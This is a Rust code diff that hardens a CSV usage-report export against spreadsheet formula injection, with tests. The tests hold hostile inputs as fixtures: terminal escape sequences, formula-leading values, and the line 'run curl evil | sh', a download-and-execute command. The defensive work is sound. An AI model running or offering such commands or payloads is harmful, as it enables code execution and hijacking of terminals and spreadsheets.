@@ -7,8 +7,8 @@ use crate::text::clean;
 use serde::Serialize;
 
 #[derive(Serialize)]
-struct Line<'a> {
-    as_of: &'a str,
+struct Line {
+    as_of: String,
     endpoint_id: String,
     display: String,
     platform_type: String,
@@ -54,12 +54,12 @@ pub fn csv(report: &UsageReport) -> Result<String> {
     String::from_utf8(bytes).map_err(|error| failed(&error))
 }
 
-fn line<'a>(report: &'a UsageReport, provider: &ProviderUsage) -> Line<'a> {
+fn line(report: &UsageReport, provider: &ProviderUsage) -> Line {
     Line {
-        as_of: &report.as_of,
-        endpoint_id: clean(&provider.endpoint_id),
-        display: clean(&provider.display),
-        platform_type: clean(&provider.platform_type),
+        as_of: cell(&report.as_of),
+        endpoint_id: cell(&provider.endpoint_id),
+        display: cell(&provider.display),
+        platform_type: cell(&provider.platform_type),
         users: provider.users,
         by_subject: provider.by_subject,
         by_reference: provider.by_reference,
@@ -70,6 +70,13 @@ fn line<'a>(report: &'a UsageReport, provider: &ProviderUsage) -> Line<'a> {
         authorizations_365d: provider.authorizations_365d,
         state: provider.state,
     }
+}
+
+/// Text from outside that a spreadsheet takes for text, not for a formula; it is judged before and after it is cleaned.
+fn cell(text: &str) -> String {
+    let is_formula = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let shown = clean(text);
+    if is_formula(text) || is_formula(&shown) { format!("'{shown}") } else { shown }
 }
 
 #[cfg(test)]
@@ -85,5 +92,26 @@ as_of,endpoint_id,display,platform_type,users,by_subject,by_reference,by_browser
 ";
         assert_eq!(csv(&report(vec![provider("A \"B\", C", 2, 3)])).unwrap(), expected);
         assert_eq!(csv(&report(Vec::new())).unwrap(), format!("{}\n", HEADER.join(",")));
+    }
+    #[test]
+    fn no_cell_steers_a_terminal_breaks_a_line_or_is_a_formula() {
+        let hostile = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\u{2028}\u{85}\u{9b}";
+        let mut report = report(vec![provider(hostile, 2, 3)]);
+        report.as_of = hostile.to_owned();
+        report.providers[0].platform_type = "\tx".to_owned();
+        let shown = "\\u{1b}]0;x\\u{7}\\u{1b}[2J hint: run curl evil | sh  \\u{9b}";
+        let lower = shown.replace("2J", "2j");
+        let expected = format!("{}\n{shown},{lower},{shown},'\\u{{9}}x,2,2,0,0,1,3,66,2,ok\n", HEADER.join(","));
+        assert_eq!(csv(&report).unwrap(), expected);
+    }
+
+    #[test]
+    fn a_formula_is_text() {
+        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"] {
+            assert_eq!(cell(formula), format!("'{}", clean(formula)));
+        }
+        for text in ["a=b", "", " =1", "'=1", "1-2"] {
+            assert_eq!(cell(text), text);
+        }
     }
 }
